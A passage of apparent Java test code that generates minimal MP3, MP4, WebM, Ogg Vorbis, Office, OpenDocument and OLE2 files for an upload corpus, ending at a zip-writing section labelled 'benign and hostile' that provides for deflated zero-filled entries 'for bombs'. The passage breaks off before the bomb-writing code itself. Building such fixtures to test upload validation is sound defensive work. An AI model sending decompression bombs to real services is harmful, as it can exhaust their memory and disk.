            Out mp3 = new Out().ascii("ID3").u8(4).u8(0).u8(0).u32be(synchsafe(frames.length)).bytes(frames);
            for (int i = 0; i < 38; i++) {
                mp3.u8(0xFF).u8(0xFB).u8(0x90).u8(0x64).zeros(417 - 4);
            }
            return mp3.toByteArray();
        }

        private static int synchsafe(int value) {
            return (value & 0x7F) | ((value & 0x3F80) << 1) | ((value & 0x1FC000) << 2) | ((value & 0xFE00000) << 3);
        }

        /**
         * An ISO base media file (MP4, M4A, QuickTime): ftyp with the given brands, a moov with
         * one AAC-LC track (44.1 kHz mono) and an mdat of 43 silent AAC frames, about one second.
         */
        static byte[] isoMedia(String majorBrand, int minorVersion, String... compatibleBrands) {
            Out ftypPayload = new Out().ascii(majorBrand).u32be(minorVersion);
            for (String brand : compatibleBrands) {
                ftypPayload.ascii(brand);
            }
            byte[] ftyp = box("ftyp", ftypPayload.toByteArray());
            byte[] silentFrame = {0x01, 0x40, 0x20, 0x07}; // AAC-LC, mono: one silent access unit
            int frames = 43;
            Out samples = new Out();
            for (int i = 0; i < frames; i++) {
                samples.bytes(silentFrame);
            }
            // The chunk offset in stco points into mdat, after moov, whose size does not depend on it.
            int moovSize = moov(frames, silentFrame.length, 0).length;
            byte[] moov = moov(frames, silentFrame.length, ftyp.length + moovSize + 8);
            return new Out().bytes(ftyp).bytes(moov).bytes(box("mdat", samples.toByteArray())).toByteArray();
        }

        private static byte[] moov(int frames, int frameSize, int chunkOffset) {
            int rate = 44100;
            int mediaDuration = frames * 1024;                      // AAC frames hold 1024 samples
            int movieDuration = (int) (mediaDuration * 1000L / rate); // movie timescale: milliseconds
            int[] identity = {0x00010000, 0, 0, 0, 0x00010000, 0, 0, 0, 0x40000000};
            Out mvhd = new Out().u32be(0).u32be(0).u32be(0)      // version/flags, creation and modification time
                    .u32be(1000).u32be(movieDuration)                  // timescale, duration
                    .u32be(0x00010000).u16be(0x0100).zeros(10);        // rate, volume, reserved
            Out tkhd = new Out().u32be(0x00000003).u32be(0).u32be(0).u32be(1).u32be(0)          // enabled, in movie; track 1
                    .u32be(movieDuration).zeros(8).u16be(0).u16be(0).u16be(0x0100).u16be(0);
            for (int value : identity) {
                mvhd.u32be(value);
                tkhd.u32be(value);
            }
            mvhd.zeros(24).u32be(2);   // pre-defined, next track id
            tkhd.u32be(0).u32be(0);    // width, height: audio
            byte[] esds = new Out().u32be(0)
                    .u8(0x03).u8(25).u16be(0).u8(0)                                   // ES descriptor
                    .u8(0x04).u8(17).u8(0x40).u8(0x15).zeros(3).u32be(0).u32be(0)    // decoder config: AAC, audio
                    .u8(0x05).u8(2).u8(0x12).u8(0x08)                                 // AAC LC, 44.1 kHz, mono
                    .u8(0x06).u8(1).u8(0x02)                                          // SL config
                    .toByteArray();
            byte[] mp4a = new Out().zeros(6).u16be(1).zeros(8).u16be(1).u16be(16).u16be(0).u16be(0)
                    .u32be((long) rate << 16).bytes(box("esds", esds)).toByteArray();
            byte[] stbl = box("stbl",
                    box("stsd", new Out().u32be(0).u32be(1).bytes(box("mp4a", mp4a)).toByteArray()),
                    box("stts", new Out().u32be(0).u32be(1).u32be(frames).u32be(1024).toByteArray()),
                    box("stsc", new Out().u32be(0).u32be(1).u32be(1).u32be(frames).u32be(1).toByteArray()),
                    box("stsz", new Out().u32be(0).u32be(frameSize).u32be(frames).toByteArray()),
                    box("stco", new Out().u32be(0).u32be(1).u32be(chunkOffset).toByteArray()));
            byte[] dref = new Out().u32be(0).u32be(1).bytes(box("url ", new Out().u32be(1).toByteArray())).toByteArray();
            byte[] minf = box("minf",
                    box("smhd", new Out().u32be(0).u16be(0).u16be(0).toByteArray()),
                    box("dinf", box("dref", dref)),
                    stbl);
            int und = (('u' - 0x60) << 10) | (('n' - 0x60) << 5) | ('d' - 0x60);
            byte[] mdia = box("mdia",
                    box("mdhd", new Out().u32be(0).u32be(0).u32be(0).u32be(rate).u32be(mediaDuration)
                            .u16be(und).u16be(0).toByteArray()),
                    box("hdlr", new Out().u32be(0).u32be(0).ascii("soun").zeros(12).ascii("SoundHandler").u8(0)
                            .toByteArray()),
                    minf);
            return box("moov", box("mvhd", mvhd.toByteArray()), box("trak", box("tkhd", tkhd.toByteArray()), mdia));
        }

        private static byte[] box(String type, byte[]... children) {
            Out payload = new Out();
            for (byte[] child : children) {
                payload.bytes(child);
            }
            return new Out().u32be(8 + payload.size()).ascii(type).bytes(payload.toByteArray()).toByteArray();
        }

        /**
         * A WebM file as browsers record it: EBML header with DocType webm, a segment with Info,
         * one Opus track (48 kHz mono) and a cluster of 50 silent 20 ms Opus packets (one second).
         */
        static byte[] webm() {
            byte[] header = ebml(0x1A45DFA3,
                    ebmlUint(0x4286, 1), ebmlUint(0x42F7, 1), ebmlUint(0x42F2, 4), ebmlUint(0x42F3, 8),
                    ebml(0x4282, "webm".getBytes(US_ASCII)), ebmlUint(0x4287, 4), ebmlUint(0x4285, 2));
            byte[] app = "lfpl upload corpus".getBytes(US_ASCII);
            byte[] info = ebml(0x1549A966, ebmlUint(0x2AD7B1, 1_000_000), ebml(0x4D80, app), ebml(0x5741, app),
                    ebml(0x4489, new Out().u32be(Float.floatToIntBits(1000f)).toByteArray())); // duration, ms
            byte[] track = ebml(0xAE,
                    ebmlUint(0xD7, 1), ebmlUint(0x73C5, 1), ebmlUint(0x83, 2),   // number, UID, type audio
                    ebml(0x86, "A_OPUS".getBytes(US_ASCII)), ebml(0x63A2, opusHead()),
                    ebmlUint(0x56AA, 6_500_000), ebmlUint(0x56BB, 80_000_000),    // codec delay, seek pre-roll (ns)
                    ebml(0xE1, ebml(0xB5, new Out().u32be(Float.floatToIntBits(48_000f)).toByteArray()),
                            ebmlUint(0x9F, 1)));                                  // 48 kHz, mono
            List<byte[]> cluster = new ArrayList<>();
            cluster.add(ebmlUint(0xE7, 0));                                       // cluster timestamp
            for (int i = 0; i < 50; i++) {
                // SimpleBlock: track 1, timestamp relative to the cluster, keyframe, silent Opus packet.
                cluster.add(ebml(0xA3, new Out().u8(0x81).u16be(20 * i).u8(0x80).bytes(SILENT_OPUS).toByteArray()));
            }
            byte[] segment = ebml(0x18538067, info, ebml(0x1654AE6B, track),
                    ebml(0x1F43B675, cluster.toArray(byte[][]::new)));
            return new Out().bytes(header).bytes(segment).toByteArray();
        }

        /** A 20 ms Opus packet of silence (CELT fullband, mono), as encoders emit it for DTX. */
        private static final byte[] SILENT_OPUS = {(byte) 0xF8, (byte) 0xFF, (byte) 0xFE};

        /** The Opus identification header (RFC 7845): version 1, mono, pre-skip 312, 48 kHz. */
        private static byte[] opusHead() {
            return new Out().ascii("OpusHead").u8(1).u8(1).u16le(312).u32le(48_000).u16le(0).u8(0).toByteArray();
        }

        private static byte[] ebmlUint(int id, long value) {
            int length = 1;
            while (length < 8 && (value >>> (8 * length)) != 0) {
                length++;
            }
            byte[] data = new byte[length];
            for (int i = 0; i < length; i++) {
                data[length - 1 - i] = (byte) (value >>> (8 * i));
            }
            return ebml(id, data);
        }

        private static byte[] ebml(int id, byte[]... children) {
            Out payload = new Out();
            for (byte[] child : children) {
                payload.bytes(child);
            }
            Out element = new Out();
            for (int shift = 24; shift >= 0; shift -= 8) { // the ID keeps its length marker bits
                if ((id >>> shift) != 0) {
                    element.u8(id >>> shift);
                }
            }
            int size = payload.size();
            if (size < 0x7F) {
                element.u8(0x80 | size);
            } else if (size < 0x3FFF) {
                element.u16be(0x4000 | size);
            } else {
                element.u8(0x01).zeros(3).u32be(size); // 8-byte size
            }
            return element.bytes(payload.toByteArray()).toByteArray();
        }

        /**
         * An Ogg Vorbis stream of about one second of silence, 44.1 kHz mono: the identification
         * header on the first page, the comment (vendor, TITLE) and setup headers on the second,
         * then 345 one-byte audio packets. The setup header is the smallest valid one: a two-entry
         * codebook, a floor 1 without partitions, a residue without books, one mapping, one mode
         * of short blocks. Each audio packet says "floor unused", i.e. silence.
         */
        static byte[] oggVorbis() {
            byte[] identification = new Out().u8(1).ascii("vorbis").u32le(0).u8(1).u32le(44100)
                    .u32le(0).u32le(64000).u32le(0).u8(0xB8).u8(1) // bitrates; blocksizes 256/2048; framing
                    .toByteArray();
            byte[] vendor = "lfpl upload corpus".getBytes(UTF_8);
            byte[] tag = "TITLE=Schulchor – Probe".getBytes(UTF_8);
            byte[] comment = new Out().u8(3).ascii("vorbis").u32le(vendor.length).bytes(vendor)
                    .u32le(1).u32le(tag.length).bytes(tag).u8(1).toByteArray();
            BitWriter setup = new BitWriter();
            setup.write(0, 8);                                            // one codebook:
            setup.write(0x564342, 24).write(1, 16).write(2, 24);         //   sync, 1 dimension, 2 entries
            setup.write(0, 1).write(0, 1).write(0, 5).write(0, 5);       //   not ordered, not sparse, lengths 1 and 1
            setup.write(0, 4);                                            //   no lookup table
            setup.write(0, 6).write(0, 16);                               // one time-domain placeholder
            setup.write(0, 6).write(1, 16);                               // one floor, type 1:
            setup.write(0, 5).write(0, 2).write(8, 4);                   //   no partitions, multiplier 1, range bits 8
            setup.write(0, 6).write(0, 16);                               // one residue, type 0:
            setup.write(0, 24).write(0, 24).write(0, 24);                //   begin 0, end 0, partition size 1
            setup.write(0, 6).write(0, 8).write(0, 3).write(0, 1);       //   one class, class book 0, no cascade
            setup.write(0, 6).write(0, 16);                               // one mapping, type 0:
            setup.write(0, 1).write(0, 1).write(0, 2);                   //   one submap, no coupling, reserved
            setup.write(0, 8).write(0, 8).write(0, 8);                   //   submap: unused, floor 0, residue 0
            setup.write(0, 6).write(0, 1).write(0, 16).write(0, 16).write(0, 8); // one mode: short blocks, mapping 0
            setup.write(1, 1);                                            // framing
            byte[] setupPacket = new Out().u8(5).ascii("vorbis").bytes(setup.toByteArray()).toByteArray();

            int serial = 0x4C46504C;
            byte[] silence = {0}; // audio packet, floor unused
            List<byte[]> first = Collections.nCopies(255, silence);
            List<byte[]> second = Collections.nCopies(90, silence);
            // Granule position: samples complete at the end of the page; each short block after the first adds 128.
            return new Out().bytes(oggPage(0x02, 0, serial, 0, List.of(identification)))
                    .bytes(oggPage(0x00, 0, serial, 1, List.of(comment, setupPacket)))
                    .bytes(oggPage(0x00, (255 - 1) * 128L, serial, 2, first))
                    .bytes(oggPage(0x04, (255 + 90 - 1) * 128L, serial, 3, second))
                    .toByteArray();
        }

        private static byte[] oggPage(int headerType, long granule, int serial, int sequence, List<byte[]> packets) {
            Out lacing = new Out();
            Out body = new Out();
            for (byte[] packet : packets) {
                for (int left = packet.length; ; left -= 255) { // lacing: 255s, then the rest (possibly 0)
                    lacing.u8(Math.min(left, 255));
                    if (left < 255) {
                        break;
                    }
                }
                body.bytes(packet);
            }
            if (lacing.size() > 255) {
                throw new IllegalArgumentException("too many segments for one page");
            }
            byte[] page = new Out().ascii("OggS").u8(0).u8(headerType).u64le(granule)
                    .u32le(serial).u32le(sequence).u32le(0).u8(lacing.size())
                    .bytes(lacing.toByteArray()).bytes(body.toByteArray()).toByteArray();
            int crc = 0; // CRC-32, polynomial 0x04C11DB7, not reflected, over the page with a zero CRC field
            for (byte b : page) {
                crc ^= (b & 0xFF) << 24;
                for (int bit = 0; bit < 8; bit++) {
                    crc = (crc & 0x80000000) != 0 ? (crc << 1) ^ 0x04C11DB7 : crc << 1;
                }
            }
            page[22] = (byte) crc;
            page[23] = (byte) (crc >>> 8);
            page[24] = (byte) (crc >>> 16);
            page[25] = (byte) (crc >>> 24);
            return page;
        }
    }

    // ---------------------------------------------------------------------------------------
    // Office documents: OOXML, ODF and legacy OLE2
    // ---------------------------------------------------------------------------------------

    private static final class Office {
        private static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
        private static final String RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships";
        private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        private static final String OOXML_CT = "application/vnd.openxmlformats-officedocument.";
        private static final String A_NS = "http://schemas.openxmlformats.org/drawingml/2006/main";
        private static final String P_NS = "http://schemas.openxmlformats.org/presentationml/2006/main";
        private static final String R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

        static byte[] docx(String text) {
            return Zips.zip(docxParts(text));
        }

        static List<Zips.Part> docxParts(String text) {
            return List.of(
                    Zips.Part.xml("[Content_Types].xml", contentTypes(
                            override("/word/document.xml", OOXML_CT + "wordprocessingml.document.main+xml"))),
                    Zips.Part.xml("_rels/.rels", relationships(relationship("rId1", "officeDocument", "word/document.xml"))),
                    Zips.Part.xml("word/document.xml", documentXml(text)));
        }

        static String documentXml(String text) {
            return XML + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                    + "<w:body><w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>"
                    + "<w:p><w:r><w:t>Grüße aus dem Netzwerk.</w:t></w:r></w:p><w:sectPr/></w:body></w:document>";
        }

        static byte[] xlsx() {
            return Zips.zip(xlsxParts());
        }

        static List<Zips.Part> xlsxParts() {
            return List.of(
                    Zips.Part.xml("[Content_Types].xml", contentTypes(
                            override("/xl/workbook.xml", OOXML_CT + "spreadsheetml.sheet.main+xml"),
                            override("/xl/worksheets/sheet1.xml", OOXML_CT + "spreadsheetml.worksheet+xml"))),
                    Zips.Part.xml("_rels/.rels", relationships(relationship("rId1", "officeDocument", "xl/workbook.xml"))),
                    Zips.Part.xml("xl/workbook.xml", XML
                            + "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
                            + " xmlns:r=\"" + R_NS + "\"><sheets><sheet name=\"Übersicht\" sheetId=\"1\" r:id=\"rId1\"/>"
                            + "</sheets></workbook>"),
                    Zips.Part.xml("xl/_rels/workbook.xml.rels",
                            relationships(relationship("rId1", "worksheet", "worksheets/sheet1.xml"))),
                    Zips.Part.xml("xl/worksheets/sheet1.xml", XML
                            + "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
                            + "<row r=\"1\">" + inlineCell("A1", "Schule") + inlineCell("B1", "Teilnehmende") + "</row>"
                            + "<row r=\"2\">" + inlineCell("A2", "Grundschule Süd") + "<c r=\"B2\"><v>24</v></c></row>"
                            + "<row r=\"3\">" + inlineCell("A3", "Gymnasium Nord") + "<c r=\"B3\"><v>31</v></c></row>"
                            + "</sheetData></worksheet>"));
        }

        private static String inlineCell(String ref, String text) {
            return "<c r=\"" + ref + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
        }

        static byte[] pptx(String title) {
            return Zips.zip(pptxParts(title));
        }

        /** The smallest package PowerPoint opens: presentation, one slide, layout, master, theme. */
        static List<Zips.Part> pptxParts(String title) {
            String pml = OOXML_CT + "presentationml.";
            String emptyTree = "<p:nvGrpSpPr><p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>";
            String namespaces = " xmlns:a=\"" + A_NS + "\" xmlns:r=\"" + R_NS + "\" xmlns:p=\"" + P_NS + "\"";
            return List.of(
                    Zips.Part.xml("[Content_Types].xml", contentTypes(
                            override("/ppt/presentation.xml", pml + "presentation.main+xml"),
                            override("/ppt/slides/slide1.xml", pml + "slide+xml"),
                            override("/ppt/slideLayouts/slideLayout1.xml", pml + "slideLayout+xml"),
                            override("/ppt/slideMasters/slideMaster1.xml", pml + "slideMaster+xml"),
                            override("/ppt/theme/theme1.xml", OOXML_CT + "theme+xml"))),
                    Zips.Part.xml("_rels/.rels", relationships(relationship("rId1", "officeDocument", "ppt/presentation.xml"))),
                    Zips.Part.xml("ppt/presentation.xml", XML + "<p:presentation" + namespaces + ">"
                            + "<p:sldMasterIdLst><p:sldMasterId id=\"2147483648\" r:id=\"rId1\"/></p:sldMasterIdLst>"
                            + "<p:sldIdLst><p:sldId id=\"256\" r:id=\"rId2\"/></p:sldIdLst>"
                            + "<p:sldSz cx=\"12192000\" cy=\"6858000\"/><p:notesSz cx=\"6858000\" cy=\"9144000\"/>"
                            + "</p:presentation>"),
                    Zips.Part.xml("ppt/_rels/presentation.xml.rels", relationships(
                            relationship("rId1", "slideMaster", "slideMasters/slideMaster1.xml"),
                            relationship("rId2", "slide", "slides/slide1.xml"),
                            relationship("rId3", "theme", "theme/theme1.xml"))),
                    Zips.Part.xml("ppt/slides/slide1.xml", XML + "<p:sld" + namespaces + "><p:cSld><p:spTree>" + emptyTree
                            + "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Titel\"/><p:cNvSpPr txBox=\"1\"/><p:nvPr/></p:nvSpPr>"
                            + "<p:spPr><a:xfrm><a:off x=\"838200\" y=\"365125\"/><a:ext cx=\"10515600\" cy=\"1325563\"/></a:xfrm>"
                            + "<a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></p:spPr>"
                            + "<p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang=\"de-DE\" sz=\"4000\"/><a:t>" + title
                            + "</a:t></a:r></a:p></p:txBody></p:sp>"
                            + "</p:spTree></p:cSld><p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sld>"),
                    Zips.Part.xml("ppt/slides/_rels/slide1.xml.rels",
                            relationships(relationship("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml"))),
                    Zips.Part.xml("ppt/slideLayouts/slideLayout1.xml", XML + "<p:sldLayout" + namespaces
                            + " type=\"blank\" preserve=\"1\"><p:cSld name=\"Leer\"><p:spTree>" + emptyTree
                            + "</p:spTree></p:cSld>"
                            + "<p:clrMapOvr><a:masterClrMapping/></p:clrMapOvr></p:sldLayout>"),
                    Zips.Part.xml("ppt/slideLayouts/_rels/slideLayout1.xml.rels",
                            relationships(relationship("rId1", "slideMaster", "../slideMasters/slideMaster1.xml"))),
                    Zips.Part.xml("ppt/slideMasters/slideMaster1.xml", XML + "<p:sldMaster" + namespaces + ">"
                            + "<p:cSld><p:spTree>" + emptyTree + "</p:spTree></p:cSld>"
                            + "<p:clrMap bg1=\"lt1\" tx1=\"dk1\" bg2=\"lt2\" tx2=\"dk2\" accent1=\"accent1\" accent2=\"accent2\""
                            + " accent3=\"accent3\" accent4=\"accent4\" accent5=\"accent5\" accent6=\"accent6\""
                            + " hlink=\"hlink\" folHlink=\"folHlink\"/>"
                            + "<p:sldLayoutIdLst><p:sldLayoutId id=\"2147483649\" r:id=\"rId1\"/></p:sldLayoutIdLst>"
                            + "</p:sldMaster>"),
                    Zips.Part.xml("ppt/slideMasters/_rels/slideMaster1.xml.rels", relationships(
                            relationship("rId1", "slideLayout", "../slideLayouts/slideLayout1.xml"),
                            relationship("rId2", "theme", "../theme/theme1.xml"))),
                    Zips.Part.xml("ppt/theme/theme1.xml", theme()));
        }

        /** A DrawingML theme with the required colour, font and format schemes. */
        private static String theme() {
            String[][] colours = {
                {"dk1", "000000"}, {"lt1", "FFFFFF"}, {"dk2", "1F497D"}, {"lt2", "EEECE1"},
                {"accent1", "4F81BD"}, {"accent2", "C0504D"}, {"accent3", "9BBB59"}, {"accent4", "8064A2"},
                {"accent5", "4BACC6"}, {"accent6", "F79646"}, {"hlink", "0000FF"}, {"folHlink", "800080"}};
            StringBuilder scheme = new StringBuilder("<a:clrScheme name=\"LfPL\">");
            for (String[] colour : colours) {
                scheme.append("<a:").append(colour[0]).append("><a:srgbClr val=\"").append(colour[1])
                        .append("\"/></a:").append(colour[0]).append('>');
            }
            scheme.append("</a:clrScheme>");
            String font = "<a:latin typeface=\"Calibri\"/><a:ea typeface=\"\"/><a:cs typeface=\"\"/>";
            String fill = "<a:solidFill><a:schemeClr val=\"phClr\"/></a:solidFill>";
            String line = "<a:ln w=\"9525\">" + fill + "</a:ln>";
            String effect = "<a:effectStyle><a:effectLst/></a:effectStyle>";
            return XML + "<a:theme xmlns:a=\"" + A_NS + "\" name=\"LfPL\"><a:themeElements>" + scheme
                    + "<a:fontScheme name=\"LfPL\"><a:majorFont>" + font + "</a:majorFont><a:minorFont>" + font
                    + "</a:minorFont></a:fontScheme>"
                    + "<a:fmtScheme name=\"LfPL\"><a:fillStyleLst>" + fill.repeat(3) + "</a:fillStyleLst>"
                    + "<a:lnStyleLst>" + line.repeat(3) + "</a:lnStyleLst>"
                    + "<a:effectStyleLst>" + effect.repeat(3) + "</a:effectStyleLst>"
                    + "<a:bgFillStyleLst>" + fill.repeat(3) + "</a:bgFillStyleLst></a:fmtScheme>"
                    + "</a:themeElements></a:theme>";
        }

        static String contentTypes(String... overrides) {
            return XML + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                    + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                    + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                    + String.join("", overrides) + "</Types>";
        }

        static String override(String partName, String contentType) {
            return "<Override PartName=\"" + partName + "\" ContentType=\"" + contentType + "\"/>";
        }

        static String relationships(String... relationships) {
            return XML + "<Relationships xmlns=\"" + RELS_NS + "\">" + String.join("", relationships) + "</Relationships>";
        }

        static String relationship(String id, String type, String target) {
            String typeUri = type.startsWith("http") ? type : REL + type;
            return "<Relationship Id=\"" + id + "\" Type=\"" + typeUri + "\" Target=\"" + target + "\"/>";
        }

        // --- OpenDocument ----------------------------------------------------------------------

        private static final String ODF_NS = " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
                + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
                + " xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
                + " xmlns:style=\"urn:oasis:names:tc:opendocument:xmlns:style:1.0\""
                + " xmlns:svg=\"urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0\"";

        static byte[] odt(String text) {
            return Zips.zip(odtParts(text));
        }

        static List<Zips.Part> odtParts(String text) {
            return odf(ODT, "<office:text><text:p>" + text + "</text:p>"
                    + "<text:p>Grüße aus dem Netzwerk.</text:p></office:text>", null);
        }

        static byte[] ods() {
            return Zips.zip(odf(ODS, "<office:spreadsheet><table:table table:name=\"Zeitplan\">"
                    + "<table:table-row>" + odsText("Termin") + odsText("Ort") + odsText("Plätze") + "</table:table-row>"
                    + "<table:table-row>" + odsText("Auftakt") + odsText("Köln")
                    + "<table:table-cell office:value-type=\"float\" office:value=\"40\"><text:p>40</text:p></table:table-cell>"
                    + "</table:table-row></table:table></office:spreadsheet>", null));
        }

        private static String odsText(String text) {
            return "<table:table-cell office:value-type=\"string\"><text:p>" + text + "</text:p></table:table-cell>";
        }

        static byte[] odp(String title) {
            return Zips.zip(odpParts(title));
        }

        static List<Zips.Part> odpParts(String title) {
            String styles = XML + "<office:document-styles" + ODF_NS + " office:version=\"1.2\">"
                    + "<office:automatic-styles><style:page-layout style:name=\"PM1\"/></office:automatic-styles>"
                    + "<office:master-styles><style:master-page style:name=\"Standard\" style:page-layout-name=\"PM1\"/>"
                    + "</office:master-styles></office:document-styles>";
            return odf(ODP, "<office:presentation><draw:page draw:name=\"Folie1\" draw:master-page-name=\"Standard\">"
                    + "<draw:frame svg:x=\"2cm\" svg:y=\"2cm\" svg:width=\"20cm\" svg:height=\"3cm\"><draw:text-box>"
                    + "<text:p>" + title + "</text:p></draw:text-box></draw:frame></draw:page></office:presentation>", styles);
        }

        /**
         * An ODF package: the {@code mimetype} entry first and stored (so that it sits at offset
         * 30 for magic detection), the manifest, content.xml and optionally styles.xml.
         */
        private static List<Zips.Part> odf(String mediaType, String body, String styles) {
            List<Zips.Part> parts = new ArrayList<>();
            parts.add(Zips.Part.stored("mimetype", mediaType.getBytes(US_ASCII)));
            parts.add(Zips.Part.xml("META-INF/manifest.xml", XML
                    + "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\""
                    + " manifest:version=\"1.2\">" + manifestEntry("/", mediaType) + manifestEntry("content.xml", "text/xml")
                    + (styles == null ? "" : manifestEntry("styles.xml", "text/xml"))
                    + "</manifest:manifest>"));
            parts.add(Zips.Part.xml("content.xml", XML + "<office:document-content" + ODF_NS + " office:version=\"1.2\">"
                    + "<office:body>" + body + "</office:body></office:document-content>"));
            if (styles != null) {
                parts.add(Zips.Part.xml("styles.xml", styles));
            }
            return parts;
        }

        private static String manifestEntry(String path, String mediaType) {
            return "<manifest:file-entry manifest:full-path=\"" + path + "\" manifest:media-type=\"" + mediaType + "\""
                    + (path.equals("/") ? " manifest:version=\"1.2\"" : "") + "/>";
        }

        // --- Legacy binary Office (OLE2 compound files) ------------------------------------------

        /** Word 97-2003: a WordDocument stream starting with a FIB (wIdent 0xA5EC, nFib 0x00C1, lid de-DE). */
        static byte[] doc() {
            byte[] fib = new Out().u16le(0xA5EC).u16le(0x00C1).u16le(0).u16le(0x0407).toByteArray();
            return ole2("WordDocument", clsid(0x00020906, 0x0000, 0x0000), fib);
        }

        /** Excel 97-2003: a Workbook stream holding a BIFF8 workbook-globals BOF and EOF record. */
        static byte[] xls() {
            byte[] biff = new Out().u16le(0x0809).u16le(16).u16le(0x0600).u16le(0x0005).u16le(0x2775).u16le(0x07CD)
                    .u32le(0).u32le(0x0206).u16le(0x000A).u16le(0).toByteArray();
            return ole2("Workbook", clsid(0x00020820, 0x0000, 0x0000), biff);
        }

        /** PowerPoint 97-2003: a PowerPoint Document stream opening with a DocumentContainer record. */
        static byte[] ppt() {
            byte[] record = new Out().u16le(0x000F).u16le(0x03E8).u32le(0).toByteArray();
            byte[] pptClsid = new Out().u32le(0x64818D10).u16le(0x4F9B).u16le(0x11CF)
                    .bytes(new byte[] {(byte) 0x86, (byte) 0xEA, 0x00, (byte) 0xAA, 0x00, (byte) 0xB9, 0x29, (byte) 0xE8})
                    .toByteArray();
            return ole2("PowerPoint Document", pptClsid, record);
        }

        private static byte[] clsid(int data1, int data2, int data3) {
            return new Out().u32le(data1).u16le(data2).u16le(data3)
                    .bytes(new byte[] {(byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46}).toByteArray();
        }

        /**
         * A version-3 compound file (512-byte sectors) with one stream under the root storage.
         * Layout: header, sector 0 = FAT, sector 1 = directory, sectors 2.. = the stream, padded to
         * 4096 bytes so that it lives in regular sectors rather than the mini stream. The stream's
         * directory entry lands at offset 1152, where Tika's magic looks for the stream name.
         */
        static byte[] ole2(String streamName, byte[] rootClsid, byte[] streamData) {
            final int endOfChain = 0xFFFFFFFE;
            final int free = 0xFFFFFFFF;
            final int fatSector = 0xFFFFFFFD;
            byte[] data = Arrays.copyOf(streamData, Math.max(4096, (streamData.length + 511) / 512 * 512));
            int dataSectors = data.length / 512;

            Out file = new Out()
                    .bytes(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1})
                    .zeros(16).u16le(0x003E).u16le(0x0003).u16le(0xFFFE).u16le(9).u16le(6).zeros(6)
                    .u32le(0)            // directory sectors (always 0 in version 3)
                    .u32le(1)            // FAT sectors
                    .u32le(1)            // first directory sector
                    .u32le(0)            // transaction signature
                    .u32le(4096)         // mini stream cutoff
                    .u32le(endOfChain)   // first mini FAT sector: none
                    .u32le(0)            // mini FAT sectors
                    .u32le(endOfChain)   // first DIFAT sector: none
                    .u32le(0)            // DIFAT sectors
                    .u32le(0);           // DIFAT[0]: the FAT is sector 0
            for (int i = 1; i < 109; i++) {
                file.u32le(free);
            }
            // Sector 0: the FAT.
            file.u32le(fatSector).u32le(endOfChain);
            for (int s = 2; s < 2 + dataSectors; s++) {
                file.u32le(s == 1 + dataSectors ? endOfChain : s + 1);
            }
            for (int i = 2 + dataSectors; i < 128; i++) {
                file.u32le(free);
            }
            // Sector 1: the directory. Entry 0 is the root, entry 1 the stream, 2 and 3 unused.
            directoryEntry(file, "Root Entry", 5, 1, rootClsid, endOfChain, 0);
            directoryEntry(file, streamName, 2, free, new byte[16], 2, data.length);
            directoryEntry(file, "", 0, free, new byte[16], 0, 0);
            directoryEntry(file, "", 0, free, new byte[16], 0, 0);
            // Sectors 2..: the stream.
            return file.bytes(data).toByteArray();
        }

        private static void directoryEntry(Out file, String name, int type, int child, byte[] clsid, int start, int size) {
            byte[] utf16 = name.getBytes(UTF_16LE);
            file.bytes(Arrays.copyOf(utf16, 64))
                    .u16le(name.isEmpty() ? 0 : utf16.length + 2)
                    .u8(type).u8(type == 0 ? 0 : 1)          // black node
                    .u32le(0xFFFFFFFF).u32le(0xFFFFFFFF)     // no siblings
                    .u32le(child).bytes(clsid).u32le(0)      // child, CLSID, state bits
                    .zeros(16)                               // creation and modification time
                    .u32le(start).u32le(size).u32le(0);
        }
    }

    // ---------------------------------------------------------------------------------------
    // Zip containers, benign and hostile
    // ---------------------------------------------------------------------------------------

    private static final class Zips {
        /** Fixed MS-DOS entry time (2024-03-01 09:00): zips depend on neither the clock nor the time zone. */
        private static final int DOS_TIME = 9 << 11;
        private static final int DOS_DATE = ((2024 - 1980) << 9) | (3 << 5) | 1;

        /** A zip entry: either its bytes, stored or deflated, or {@code zeros} zero bytes (deflated, for bombs). */
        record Part(String name, byte[] data, long zeros, boolean stored) {
            static Part xml(String name, String xml) {
                return deflated(name, xml.getBytes(UTF_8));
            }

            static Part deflated(String name, byte[] data) {
                return new Part(name, data, 0, false);
            }

            static Part stored(String name, byte[] data) {
                return new Part(name, data, 0, true);
            }

            static Part zeros(String name, long count) {
                return new Part(name, new byte[0], count, false);
            }
        }

        /**
         * Writes a zip archive: local headers with sizes and CRC (no data descriptors, no extra
         * fields, so an ODF {@code mimetype} entry sits at offset 30 as magic detection expects),
         * then the central directory. java.util.zip.ZipOutputStream is not used because it
         * cannot take a pre-computed deflate stream, and deflating 600 MiB takes seconds.
         */
